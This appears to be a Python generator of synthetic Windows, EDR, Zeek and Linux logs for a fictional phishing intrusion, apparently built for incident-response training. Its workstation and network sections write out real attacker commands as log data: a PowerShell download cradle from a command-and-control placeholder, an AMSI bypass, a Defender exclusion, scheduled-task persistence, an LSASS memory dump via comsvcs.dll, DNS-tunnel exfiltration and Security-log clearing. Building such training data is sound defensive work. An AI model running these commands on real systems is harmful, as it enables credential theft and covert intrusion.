        fields |= {"Status": (HEX32, 0xC000006D), "FailureReason": "%%2313", "SubStatus": (HEX32, failed), "LogonType": kind}
    else:
        fields |= {"TargetLogonId": (HEX64, 0xC3E7A), "LogonType": kind}
    return fields | {
        "LogonProcessName": "User32 " if kind == 2 else "Kerberos", "AuthenticationPackageName": "Negotiate" if kind == 2 else "Kerberos", "WorkstationName": host,
        "ProcessId": (HEX64, 0x508), "ProcessName": "C:\\Windows\\System32\\svchost.exe", "IpAddress": ip, "IpPort": "0"}


def workstation():
    """Maeve's workstation: what a triage script copied."""
    rng = seeded("ws")
    name, address = HOST[VICTIM]
    computer = f"{name}.{CORP}"
    sysmon = Evtx("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "5770385F-C22A-43E0-BF4C-06F5698FFBD9", computer, 48_213)
    security = Evtx("Security", "Microsoft-Windows-Security-Auditing", "54849625-5478-4994-A5BA-3E3B0328C30D", computer, 190_877)
    powershell = Evtx("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", "A0C1853B-5C40-4B15-8766-3CF1C58F985A", computer, 2_214)
    tasks = Evtx("Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler", "DE7B24EA-73C8-4A09-985D-5BDADCFA9017", computer, 7_731)
    defender = Evtx("Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender", "11CD958A-C507-4EF3-B3F2-5FD9DFBD2C78", computer, 611)
    who = f"BRIGHTWATER\\{VICTIM}"
    processes = {}

    def guid_of(pid, t):
        return f"{{6D1B3C0A-{token(4, pid, t).upper()}-6910-{token(4, t, pid).upper()}-000000001F00}}"

    def utc(t):
        return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"

    def process(t, pid, image, command, parent, user=who, integrity="Medium", company="-"):
        """Sysmon 1; `parent` is a pid known already or an image."""
        image_of, command_of, guid, parent_pid = processes.get(parent, (parent, parent, guid_of(0, parent), 1044))
        processes[pid] = (image, command, guid_of(pid, t), pid)
        sysmon.add(t, 1, {
            "RuleName": "-", "UtcTime": utc(t), "ProcessGuid": processes[pid][2], "ProcessId": pid, "Image": image, "FileVersion": "-",
            "Description": "-", "Product": "-", "Company": company, "OriginalFileName": image.split("\\")[-1], "CommandLine": command,
            "CurrentDirectory": "C:\\Windows\\system32\\", "User": user, "LogonGuid": "{6D1B3C0A-51E2-6910-7A3E-0C0000000000}", "LogonId": (HEX64, 0xC3E7A),
            "TerminalSessionId": 1, "IntegrityLevel": integrity, "Hashes": f"SHA256={token(64, image).upper()}", "ParentProcessGuid": guid,
            "ParentProcessId": parent_pid, "ParentImage": image_of, "ParentCommandLine": command_of, "ParentUser": user}, task=1, version=5)

    def looked_up(t, pid, query, answer):
        image, _, guid, _ = processes[pid]
        sysmon.add(t, 22, {"RuleName": "-", "UtcTime": utc(t), "ProcessGuid": guid, "ProcessId": pid, "QueryName": query, "QueryStatus": "0",
                           "QueryResults": f"::ffff:{answer};", "Image": image, "User": who}, task=22, version=5)

    def connected(t, pid, ip, port, host="-"):
        image, _, guid, _ = processes[pid]
        sysmon.add(t, 3, {"RuleName": "-", "UtcTime": utc(t), "ProcessGuid": guid, "ProcessId": pid, "Image": image, "User": who, "Protocol": "tcp",
                          "Initiated": True, "SourceIsIpv6": False, "SourceIp": address, "SourceHostname": computer, "SourcePort": rng.randrange(49_500, 65_000),
                          "SourcePortName": "-", "DestinationIsIpv6": False, "DestinationIp": ip, "DestinationHostname": host, "DestinationPort": port,
                          "DestinationPortName": "https" if port == 443 else "-"}, task=3, version=5)

    def wrote(t, pid, path):
        image, _, guid, _ = processes[pid]
        sysmon.add(t, 11, {"RuleName": "-", "UtcTime": utc(t), "ProcessGuid": guid, "ProcessId": pid, "Image": image, "TargetFilename": path,
                           "CreationUtcTime": utc(t), "User": who}, task=11, version=2)

    def script(t, text, path=""):
        powershell.add(t, 4104, {"MessageNumber": 1, "MessageTotal": 1, "ScriptBlockText": text, "ScriptBlockId": ident("script", t), "Path": path},
                       user=sid(VICTIM), level=5, task=2, version=1, keywords=0)

    explorer, edge, outlook, teams, svchost = 5020, 7312, 6120, 6388, 1288
    windows, programs = "C:\\Windows\\", "C:\\Program Files\\"
    for day in (14, 15):
        start = at(f"{day} 08:05")
        if day == 15:
            security.add(start, 4624, logon(name, VICTIM, 2, "127.0.0.1"), task=12544, version=2, keywords=0x8020000000000000, level=0, user=None)
        process(start + dt.timedelta(seconds=3), explorer, windows + "explorer.exe", windows + "Explorer.EXE", windows + "System32\\userinit.exe")
        process(start + dt.timedelta(seconds=9), svchost, windows + "System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule", windows + "System32\\services.exe",
                user="NT AUTHORITY\\SYSTEM", integrity="System")
        process(start + dt.timedelta(seconds=40), edge, "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "\"msedge.exe\" --profile-directory=Default", explorer)
        process(start + dt.timedelta(seconds=66), outlook, programs + "Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "\"OUTLOOK.EXE\"", explorer)
        process(start + dt.timedelta(seconds=90), teams, programs + "WindowsApps\\MSTeams\\ms-teams.exe", "\"ms-teams.exe\" --type=main", explorer)
        for n in range(78):
            t = working_time(rng, day)
            if t < start + dt.timedelta(minutes=3):
                continue
            pid = 8_000 + day * 200 + n * 4
            kind = rng.random()
            if kind < 0.35:
                image, command, parent = rng.choice([
                    (windows + "System32\\svchost.exe", "svchost.exe -k LocalService -p", windows + "System32\\services.exe"),
                    (windows + "System32\\backgroundTaskHost.exe", "backgroundTaskHost.exe -ServerName:App", svchost),
                    (windows + "System32\\SearchProtocolHost.exe", "SearchProtocolHost.exe Global\\UsGthrFltPipeMssGthrPipe", svchost),
                    (programs + "Git\\cmd\\git.exe", "git.exe fetch --prune", explorer),
                    (programs + "Microsoft Office\\root\\Office16\\EXCEL.EXE", "\"EXCEL.EXE\" \"C:\\Users\\mhalloran\\Documents\\stock.xlsx\"", explorer),
                    (windows + "System32\\WindowsPowerShell\\v1.0\\powershell.exe", "powershell.exe -NoLogo -File C:\\Tools\\deploy\\status.ps1", explorer),
                    (programs + "Kubernetes\\kubectl.exe", "kubectl.exe get pods -n stock", explorer)])
                process(t, pid, image, command, parent)
            elif kind < 0.7:
                looked_up(t, rng.choice([edge, outlook, teams]), rng.choice(["mail.office.example", "teams.office.example", "www.example.com", "cdn.example.net", "wiki." + DOMAIN, "news.example.org"]), f"198.51.100.{rng.randrange(10, 60)}")
            elif kind < 0.9:
                connected(t, rng.choice([edge, outlook, teams]), f"198.51.100.{rng.randrange(10, 60)}", 443)
            else:
                wrote(t, edge, f"C:\\Users\\{VICTIM}\\AppData\\Local\\Temp\\{token(8, t)}.tmp")
    for day, clock in ((14, "10:02:11"), (15, "10:40:51")):
        script(at(f"{day} {clock}"), "param($Service)\nGet-Service -Name $Service | Select-Object Status, StartType\n", "C:\\Tools\\deploy\\status.ps1")
    for day in (14, 15):
        for n in range(14):
            tasks.add(working_time(rng, day), 106 if n == 3 else 201, {"TaskName": "\\Microsoft\\EdgeUpdate\\EdgeUpdateTaskMachineUA" if n != 3 else "\\Microsoft\\Office\\OfficeFeatureUpdates"} |
                      ({"UserContext": "S-1-5-18"} if n == 3 else {"TaskInstanceId": (GUID, ident("task", day, n)), "ActionName": "MicrosoftEdgeUpdate.exe", "ResultCode": 0}), task=106 if n == 3 else 201)
        defender.add(at(f"{day} 09:15:02"), 2000, {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.26090.11", "Current Signature Version": f"1.441.{day}.0",
                     "Previous Signature Version": f"1.441.{day - 1}.0", "Update Source": "Microsoft Update Server", "Domain": "NT AUTHORITY", "User": "SYSTEM"})

    # 08:41 The link in the mail, then the "installer" that the page offers.
    looked_up(at("14 08:41:07"), edge, PHISH, "198.51.100.91")
    connected(at("14 08:41:08"), edge, "198.51.100.91", 443, PHISH)
    wrote(at("14 08:46:30"), edge, f"C:\\Users\\{VICTIM}\\Downloads\\OktaVerifySetup.hta")
    mshta, shell, cmd = 9104, 9188, 9240
    process(at("14 08:47:02"), mshta, windows + "System32\\mshta.exe", f"\"C:\\Windows\\System32\\mshta.exe\" \"C:\\Users\\{VICTIM}\\Downloads\\OktaVerifySetup.hta\"", explorer)
    cradle = f"IEX (New-Object Net.WebClient).DownloadString('http://{C2}/kit/a.ps1')"
    process(at("14 08:47:05"), shell, windows + "System32\\WindowsPowerShell\\v1.0\\powershell.exe", f"powershell.exe -NoP -W Hidden -Exec Bypass -c \"{cradle}\"", mshta)
    script(at("14 08:47:06"), cradle)
    connected(at("14 08:47:07"), shell, C2, 80)
    script(at("14 08:47:10"), "[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('am'+'siInitFailed','NonPublic,Static').SetValue($null,$true)\n# amsiInitFailed\n")
    script(at("14 08:48:31"), "Add-MpPreference -ExclusionPath 'C:\\Users\\Public\\Libraries'\n")
    defender.add(at("14 08:48:33"), 5007, {"Product Name": "Microsoft Defender Antivirus", "Product Version": "4.18.26090.11", "Old Value": "",
                 "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\Users\\Public\\Libraries = 0x0"})
    connected(at("14 08:49:00"), shell, C2, 80)
    wrote(at("14 08:49:02"), shell, "C:\\Users\\Public\\Libraries\\bwsync.exe")
    process(at("14 08:51:20"), cmd, windows + "System32\\schtasks.exe",
            "schtasks.exe /create /f /tn BrightwaterSync /sc minute /mo 30 /tr C:\\Users\\Public\\Libraries\\bwsync.exe", shell)
    tasks.add(at("14 08:51:20", 0.5), 106, {"TaskName": "\\BrightwaterSync", "UserContext": who}, task=106, user=sid(VICTIM))
    implant = 9412
    process(at("14 08:53:40"), implant, "C:\\Users\\Public\\Libraries\\bwsync.exe", "C:\\Users\\Public\\Libraries\\bwsync.exe", svchost)
    for clock in ("14 08:53:40", "15 08:06:40"):  # it starts again with the computer
        tasks.add(at(clock), 200, {"TaskName": "\\BrightwaterSync", "ActionName": "C:\\Users\\Public\\Libraries\\bwsync.exe", "TaskInstanceId": (GUID, ident("task", clock)), "EnginePID": svchost}, task=200)
    looked_up(at("14 08:53:42"), implant, C2_NAME, C2)
    connected(at("14 08:53:43"), implant, C2, 8443)
    # 09:12 Credentials out of memory.
    for n, command in enumerate(("whoami.exe /all", "nltest.exe /domain_trusts", "net.exe group \"Domain Admins\" /domain")):
        process(at("14 09:03:10", n * 21), 9500 + n * 4, windows + "System32\\" + command.split()[0], command, implant)
    dump = 9560
    process(at("14 09:12:08"), dump, windows + "System32\\rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Users\\Public\\Libraries\\l.bin full", implant, integrity="High")
    sysmon.add(at("14 09:12:09"), 10, {"RuleName": "-", "UtcTime": utc(at("14 09:12:09")), "SourceProcessGUID": processes[dump][2], "SourceProcessId": dump, "SourceThreadId": 9568,
               "SourceImage": processes[dump][0], "TargetProcessGUID": guid_of(692, "lsass"), "TargetProcessId": 692, "TargetImage": windows + "System32\\lsass.exe",
               "GrantedAccess": (HEX32, 0x1FFFFF), "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9fc24|C:\\Windows\\System32\\comsvcs.dll+2a1b0|UNKNOWN(000001C2A5B30F11)",
               "SourceUser": who, "TargetUser": "NT AUTHORITY\\SYSTEM"}, task=10, version=3)
    # Tidying up: whatever Security held before is gone; the collector still has its copy.
    security.add(at("15 00:58:12"), 1102, {"SubjectUserSid": (SID, sid(VICTIM)), "SubjectUserName": VICTIM, "SubjectDomainName": "BRIGHTWATER", "SubjectLogonId": (HEX64, 0xC3E7A)},
                 provider=("Microsoft-Windows-Eventlog", "FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148"), task=104, keywords=0x4020000000000000, level=4, user=None,
                 space=("LogFileCleared", "http://manifests.microsoft.com/win/2004/08/windows/eventlog"))
    return {"Microsoft-Windows-Sysmon%4Operational.evtx": sysmon, "Security.evtx": security, "Microsoft-Windows-PowerShell%4Operational.evtx": powershell,
            "Microsoft-Windows-TaskScheduler%4Operational.evtx": tasks, "Microsoft-Windows-Windows Defender%4Operational.evtx": defender}


def forwarded():
    """What the event collector had from the domain controller and the workstations, exported by evtx_dump."""
    rng, log = seeded("dc"), Log()
    record = iter(range(3_300_100, 3_400_000))

    def spell(pair):
        kind, value = guess(pair)
        return f"{value:#x}" if kind in (HEX32, HEX64) else value

    def add(t, event_id, data, computer="DC-01." + CORP, task=14337):
        log.add(t, (event_id, {k: spell(v) for k, v in data.items()}, computer, task))

    def ticket(t, login, service, address, encryption, options=0x40810000):
        add(t, 4769, {"TargetUserName": f"{login}@{CORP.upper()}", "TargetDomainName": CORP.upper(), "ServiceName": service, "ServiceSid": (SID, DOMAIN_SID + "-1000"),
                      "TicketOptions": (HEX32, options), "TicketEncryptionType": (HEX32, encryption), "IpAddress": "::ffff:" + address, "IpPort": str(rng.randrange(49_500, 65_000)),
                      "Status": (HEX32, 0), "LogonGuid": "{" + ident("ticket", t).upper() + "}", "TransmittedServices": "-"})

    for day in (14, 15):
        for login, _ in STAFF:
            host, address = HOST[login]
            t = jitter(at(f"{day} 08:00", abs(rng.gauss(15, 12)) * 60), rng)
            if rng.random() < 0.12:
                add(t - dt.timedelta(seconds=14), 4625, logon(host, login, 2, "127.0.0.1", failed=0xC000006A), f"{host}.{CORP}", 12544)
            add(t, 4624, logon(host, login, 2, "127.0.0.1"), f"{host}.{CORP}", 12544)
            for _ in range(rng.randrange(3, 6)):
                ticket(working_time(rng, day), login, rng.choice(["DC-01$", "FS-02$", "MAIL-01$", "krbtgt", "svc-print"]), address, 0x12)
    ticket(at("14 10:31:00"), "kmolnar", "svc-legacyscan", HOST["kmolnar"][1], 0x17)
    xml = ("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  <Triggers><TimeTrigger>"
           "<Repetition><Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers>\r\n  <Actions Context=\"Author\"><Exec><Command>C:\\Users\\Public\\Libraries\\bwsync.exe</Command></Exec></Actions>\r\n</Task>")
    host, address = HOST[VICTIM]
    add(at("14 08:51:20", 0.4), 4698, {"SubjectUserSid": (SID, sid(VICTIM)), "SubjectUserName": VICTIM, "SubjectDomainName": "BRIGHTWATER", "SubjectLogonId": (HEX64, 0xC3E7A),
        "TaskName": "\\BrightwaterSync", "TaskContent": xml, "ClientProcessId": 9240, "ParentProcessId": 9188, "FQDN": f"{host}.{CORP}"}, f"{host}.{CORP}", 12804)
    for n, service in enumerate(("svc-backup", "svc-sql01", "svc-sql02", "svc-sccm", "svc-sharepoint", "svc-vpn", "svc-legacyscan")):
        ticket(at("14 10:05:12", n * 1.7), VICTIM, service, address, 0x17, 0x40800000)
    out = []
    for t, (event_id, data, computer, task) in log.sorted():
        out.append({"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"}, "System": {
            "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing", "Guid": "{54849625-5478-4994-A5BA-3E3B0328C30D}"}}, "EventID": event_id,
            "Version": 0, "Level": 0, "Task": task, "Opcode": 0, "Keywords": "0x8010000000000000" if event_id == 4625 else "0x8020000000000000",
            "TimeCreated": {"#attributes": {"SystemTime": iso(t, 6)}}, "EventRecordID": next(record), "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 704, "ThreadID": 5100}}, "Channel": "Security", "Computer": computer, "Security": None}, "EventData": data}})
    return "".join(json.dumps(o, ensure_ascii=False, separators=(",", ":")) + "\n" for o in out)


def crowdstrike():
    log = Log()

    def add(t, login, severity, name, tactic, technique, technique_id, disposition, command, status):
        host, address = HOST[login]
        device = token(32, host)
        log.add(t, {
            "agent_id": device, "cid": token(32, "cid"), "composite_id": f"{token(32, 'cid')}:ind:{device}:{token(16, t)}", "aggregate_id": f"aggind:{device}:{token(10, t)}",
            "created_timestamp": iso(t, 6), "timestamp": iso(t, 3), "updated_timestamp": iso(t + dt.timedelta(hours=1), 6), "display_name": name, "name": name,
            "description": "A process did what this technique describes.", "tactic": tactic, "tactic_id": "TA0006", "technique": technique, "technique_id": technique_id,
            "objective": "Follow Through", "severity": severity, "severity_name": "High" if severity >= 60 else "Low", "confidence": 80, "status": status, "product": "epp", "type": "ldt",
            "scenario": "credential_theft", "pattern_disposition": 0, "pattern_disposition_description": disposition, "filename": command.split()[0], "cmdline": command,
            "filepath": "\\Device\\HarddiskVolume3\\Windows\\System32\\" + command.split()[0], "sha256": token(64, command), "user_name": login, "user_principal": mail(login),
            "logon_domain": "BRIGHTWATER", "show_in_ui": True,
            "device": {"device_id": device, "hostname": host, "platform_name": "Windows", "os_version": "Windows 11", "product_type_desc": "Workstation", "external_ip": OFFICE, "local_ip": address, "machine_domain": CORP}})

    add(at("14 09:12:31"), VICTIM, 70, "LsassDumpViaComsvcs", "Credential Access", "OS Credential Dumping", "T1003.001", "Detection, standard detection.",
        "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 692 C:\\Users\\Public\\Libraries\\l.bin full", "new")
    add(at("14 14:20:02"), "cprice", 20, "AdwareInstaller", "Execution", "User Execution", "T1204.002", "Prevention, process was blocked from execution.", "CouponHelper.exe /S", "closed")
    add(at("15 11:03:50"), "vduarte", 30, "UnusualMacro", "Execution", "Visual Basic", "T1059.005", "Prevention, operation blocked.", "EXCEL.EXE freight.xlsm", "in_progress")
    return json.dumps([o for _, o in log.sorted()], indent=1) + "\n"


# --- Zeek, tab-separated -------------------------------------------------------------------------

CONN = "ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port proto:enum service:string duration:interval orig_bytes:count resp_bytes:count conn_state:string local_orig:bool local_resp:bool missed_bytes:count history:string orig_pkts:count orig_ip_bytes:count resp_pkts:count resp_ip_bytes:count tunnel_parents:set[string]"
DNS = "ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port proto:enum trans_id:count rtt:interval query:string qclass:count qclass_name:string qtype:count qtype_name:string rcode:count rcode_name:string AA:bool TC:bool RD:bool RA:bool Z:count answers:vector[string] TTLs:vector[interval] rejected:bool"
SSL = "ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port version:string cipher:string curve:string server_name:string resumed:bool last_alert:string next_protocol:string established:bool ssl_history:string cert_chain_fps:vector[string] client_cert_chain_fps:vector[string] sni_matches_cert:bool validation_status:string"
HTTP = "ts:time uid:string id.orig_h:addr id.orig_p:port id.resp_h:addr id.resp_p:port trans_depth:count method:string host:string uri:string referrer:string version:string user_agent:string origin:string request_body_len:count response_body_len:count status_code:count status_msg:string info_code:count info_msg:string tags:set[enum] username:string password:string proxied:set[string] orig_fuids:vector[string] orig_filenames:vector[string] orig_mime_types:vector[string] resp_fuids:vector[string] resp_filenames:vector[string] resp_mime_types:vector[string]"


class Zeek:
    """One Zeek log; missing fields become `-`."""

    def __init__(self, path, columns):
        self.path, self.log = path, Log()
        self.names, self.types = zip(*(c.rsplit(":", 1) for c in columns.split()))

    def add(self, t, **values):
        self.log.add(t, values)

    def text(self):
        stamp = "%Y-%m-%d-%H-%M-%S"
        head = ["#separator \\x09", "#set_separator\t,", "#empty_field\t(empty)", "#unset_field\t-", f"#path\t{self.path}", f"#open\t{BEGIN.strftime(stamp)}",
                "#fields\t" + "\t".join(self.names), "#types\t" + "\t".join(self.types)]
        rows = []
        for t, values in self.log.sorted():
            cells = []
            for name in self.names:
                value = values.get(name.replace("id.", "").replace(".", "_"))
                if name == "ts":
                    cells.append(f"{epoch(t):.6f}")
                elif value is None:
                    cells.append("-")
                elif isinstance(value, bool):
                    cells.append("T" if value else "F")
                elif isinstance(value, float):
                    cells.append(f"{value:.6f}")
                else:
                    cells.append(str(value))
            rows.append("\t".join(cells))
        return "\n".join(head + rows + [f"#close\t{END.strftime(stamp)}"]) + "\n"


def zeek():
    rng = seeded("zeek")
    conn, dns, ssl, http = Zeek("conn", CONN), Zeek("dns", DNS), Zeek("ssl", SSL), Zeek("http", HTTP)
    counter = iter(range(10_000_000))

    def uid():
        n = int(token(26, "uid", next(counter)), 16)
        letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
        return "C" + "".join(letters[n // 62**k % 62] for k in range(17))

    def connection(t, source, target, port, service, sent, received, duration, proto="tcp", state="SF", history="ShADadFf"):
        u, p = uid(), rng.randrange(49_200, 65_500)
        conn.add(t, uid=u, orig_h=source, orig_p=p, resp_h=target, resp_p=port, proto=proto, service=service, duration=duration, orig_bytes=sent, resp_bytes=received,
                 conn_state=state, local_orig=True, local_resp=target.startswith("10."), missed_bytes=0, history=history if proto == "tcp" else "Dd",
                 orig_pkts=sent // 900 + 4, orig_ip_bytes=sent + 240, resp_pkts=received // 1200 + 4, resp_ip_bytes=received + 240)
        return u, p

    def lookup(t, source, query, kind, answer, code="NOERROR"):
        u, p = connection(t, source, RESOLVER, 53, "dns", len(query) + 18, len(query) + 50 + len(answer or ""), 0.004 + rng.random() / 20, "udp")
        dns.add(t, uid=u, orig_h=source, orig_p=p, resp_h=RESOLVER, resp_p=53, proto="udp", trans_id=rng.randrange(65_536), rtt=0.004 + rng.random() / 20, query=query, qclass=1,
                qclass_name="C_INTERNET", qtype={"A": 1, "AAAA": 28, "TXT": 16, "PTR": 12}[kind], qtype_name=kind, rcode=0 if code == "NOERROR" else 3, rcode_name=code,
                AA=False, TC=False, RD=True, RA=True, Z=0, answers=answer, TTLs="300.000000" if answer else None, rejected=False)

    def tls(t, source, target, port, name, sent, received, duration, status="ok"):
        u, p = connection(t, source, target, port, "ssl", sent, received, duration)
        ssl.add(t, uid=u, orig_h=source, orig_p=p, resp_h=target, resp_p=port, version="TLSv13" if name else "TLSv12", cipher="TLS_AES_128_GCM_SHA256" if name else "TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384",
                curve="x25519", server_name=name, resumed=False, next_protocol="h2" if name else None, established=True, ssl_history="CsiI" if name else "CsxknGIi",
                cert_chain_fps=None if name else token(64, "cert"), sni_matches_cert=True if name else None, validation_status=None if name else status)

    names = ["mail.office.example", "teams.office.example", "www.example.com", "cdn.example.net", "news.example.org", "orders.pumps.example", "maps.example.com", "fonts.example.net"]
    for day in (14, 15):
        for login, _ in STAFF:
            for _ in range(11):
                t, name = working_time(rng, day), rng.choice(names)
                ip = f"198.51.100.{10 + names.index(name) * 6}"
                lookup(t, HOST[login][1], name, rng.choice(["A", "A", "AAAA"]), ip if rng.random() < 0.97 else None)
                tls(t + dt.timedelta(milliseconds=60), HOST[login][1], ip, 443, name, rng.randrange(800, 20_000), rng.randrange(3_000, 400_000), rng.random() * 60)
    for n in range(150):
        t = any_time(rng)
        host = rng.choice(list(HOST.values()))[1]
        if n % 3 == 0:
            u, p = connection(t, host, "198.51.100.22", 80, "http", 410, 3_100, 0.2)
            http.add(t, uid=u, orig_h=host, orig_p=p, resp_h="198.51.100.22", resp_p=80, trans_depth=1, method="GET", host="pki.example.com", uri=f"/crl/ca{n % 5}.crl", version="1.1",
                     user_agent="Microsoft-CryptoAPI/10.0", request_body_len=0, response_body_len=2_700, status_code=200, status_msg="OK", tags="(empty)", resp_fuids="F" + token(16, t), resp_mime_types="application/pkix-crl")
        else:
            lookup(t, host, f"{rng.randrange(10, 60)}.100.51.198.in-addr.arpa" if n % 3 == 1 else f"{rng.choice(['wpad', 'printer', 'fs-02'])}.{CORP}", "PTR" if n % 3 == 1 else "A", None, "NXDOMAIN")

    _, me = HOST[VICTIM]
    lookup(at("14 08:41:07"), me, PHISH, "A", "198.51.100.91")
    tls(at("14 08:41:08"), me, "198.51.100.91", 443, PHISH, 2_900, 61_000, 44.0)
    agent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-IE) WindowsPowerShell/5.1.26100.6899"
    for clock, uri, size, kind in (("08:47:07", "/kit/a.ps1", 9_120, "text/plain"), ("08:49:00", "/kit/bwsync.exe", 412_160, "application/x-dosexec")):
        u, p = connection(at("14 " + clock), me, C2, 80, "http", 220, size + 300, 0.9)
        http.add(at("14 " + clock), uid=u, orig_h=me, orig_p=p, resp_h=C2, resp_p=80, trans_depth=1, method="GET", host=C2, uri=uri, version="1.1", user_agent=agent, request_body_len=0,
                 response_body_len=size, status_code=200, status_msg="OK", tags="(empty)", resp_fuids="F" + token(16, uri), resp_mime_types=kind)
    lookup(at("14 08:53:42"), me, C2_NAME, "A", C2)
    t = at("14 08:53:43")
    while t < at("15 16:20:00"):  # a beacon every five minutes, a tenth of jitter
        tls(t, me, C2, 8443, None, rng.randrange(680, 760), rng.randrange(410, 470), 0.3 + rng.random() / 5, "self signed certificate")
        t += dt.timedelta(seconds=300 * (0.9 + rng.random() * 0.2))
    t = at("15 00:20:00")
    for n in range(280):  # the dump of credentials leaves through the resolver
        label = "".join("abcdefghijklmnopqrstuvwxyz234567"[int(c, 16) * 2 + int(d, 16) % 2] for c, d in zip(token(56, "a", n), token(56, "b", n)))
        lookup(t, me, f"{label}.{n:04x}.t.{C2_NAME}", "TXT", "TXT 2 ok")
        t += dt.timedelta(seconds=4 + rng.random() * 3)
    tls(at("15 00:52:10"), me, C2, 8443, None, 734_003_200, 88_000, 1_260.4, "self signed certificate")
    lines = dns.text().splitlines(keepends=True)
    lines[700] = "\t".join(lines[700].split("\t")[:7]) + "\n"  # written while the disk was full
    return {"conn.log": conn.text(), "dns.log": "".join(lines), "ssl.log": ssl.text(), "http.log": http.text()}


# --- the bastion: auth.log and audit.log ---------------------------------------------------------


def bastion():
    rng, auth, audit = seeded("bastion"), Log(), Log()
    serial = iter(range(61_200, 99_999))

    def say(t, program, text, pid=None):
        day = t.strftime("%b ") + f"{t.day:2d}" + t.strftime(" %H:%M:%S")
        auth.add(t, f"{day} bastion-01 {program}{f'[{pid}]' if pid else ''}: {text}")

    def accepted(t, user, ip, how="publickey"):
        pid = rng.randrange(2_000, 30_000)
        key = f": ED25519 SHA256:{token(43, user)}" if how == "publickey" else ""
        say(t, "sshd", f"Accepted {how} for {user} from {ip} port {rng.randrange(40_000, 65_000)} ssh2{key}", pid)
        say(t, "sshd", f"pam_unix(sshd:session): session opened for user {user}(uid=1001) by {user}(uid=0)", pid)
        end = t + dt.timedelta(minutes=rng.randrange(3, 50))
        say(end, "sshd", f"pam_unix(sshd:session): session closed for user {user}", pid)

    def sudo(t, user, command, tty="pts/0", where=None):
        say(t, "sudo", f"{user:>8} : TTY={tty} ; PWD={where or '/home/' + user} ; USER=root ; COMMAND={command}")
        say(t, "sudo", f"pam_unix(sudo:session): session opened for user root(uid=0) by {user}(uid=1001)")
        say(t + dt.timedelta(seconds=2), "sudo", "pam_unix(sudo:session): session closed for user root")

    def hexed(words):
        return "\0".join(words).encode().hex().upper()

    def records(t, *parts):
        stamp = f"audit({epoch(t):.3f}:{next(serial)})"
        audit.add(t, "".join(f"node=bastion-01 type={kind} msg={stamp}: {text}\n" for kind, text in parts))

    def run(t, exe, words, uid=1001, cwd="/home/deploy", key="exec", session=41):
        records(t, ("SYSCALL", f'arch=c000003e syscall=59 success=yes exit=0 a0=55d0c8 a1=55d0d8 a2=55d0e8 a3=8 items=2 ppid=24101 pid={rng.randrange(9_000, 30_000)} auid=1001 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses={session} comm="{exe.split("/")[-1][:15]}" exe="{exe}" subj=unconfined key="{key}"'),
                ("EXECVE", f"argc={len(words)} " + " ".join(f'a{n}="{w}"' if " " not in w and '"' not in w else f"a{n}={w.encode().hex().upper()}" for n, w in enumerate(words))),
                ("CWD", f'cwd="{cwd}"'), ("PATH", f'item=0 name="{exe}" inode=1310{len(exe)} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'),
                ("PROCTITLE", f"proctitle={hexed(words)}"))

    def touch(t, exe, path, kind="NORMAL", uid=0, key="keys", words=("tee", "-a")):
        records(t, ("SYSCALL", f'arch=c000003e syscall=257 success=yes exit=3 a0=ffffff9c a1=7ffc a2=441 a3=1b6 items=2 ppid=24101 pid={rng.randrange(9_000, 30_000)} auid=1001 uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} fsgid={uid} tty=pts0 ses=41 comm="{exe.split("/")[-1][:15]}" exe="{exe}" subj=unconfined key="{key}"'),
                ("CWD", 'cwd="/root"'), ("PATH", f'item=0 name="{path.rsplit("/", 1)[0]}/" inode=2621 dev=fd:00 mode=040700 ouid=0 ogid=0 rdev=00:00 nametype=PARENT cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'),
                ("PATH", f'item=1 name="{path}" inode=2644 dev=fd:00 mode=0100600 ouid=0 ogid=0 rdev=00:00 nametype={kind} cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0'), ("PROCTITLE", f"proctitle={hexed([*words, path])}"))

    for day in (14, 15):
        for _ in range(13):
            user = rng.choice(PLATFORM[1:])
            t = working_time(rng, day)
            accepted(t, user, "10.20.4." + HOST[user][1].split(".")[-1])
            if rng.random() < 0.6:
                sudo(t + dt.timedelta(seconds=40), user, rng.choice(["/usr/bin/apt-get update", "/usr/bin/systemctl status nginx", "/usr/bin/journalctl -u kubelet -n 50", "/usr/bin/less /var/log/syslog"]))
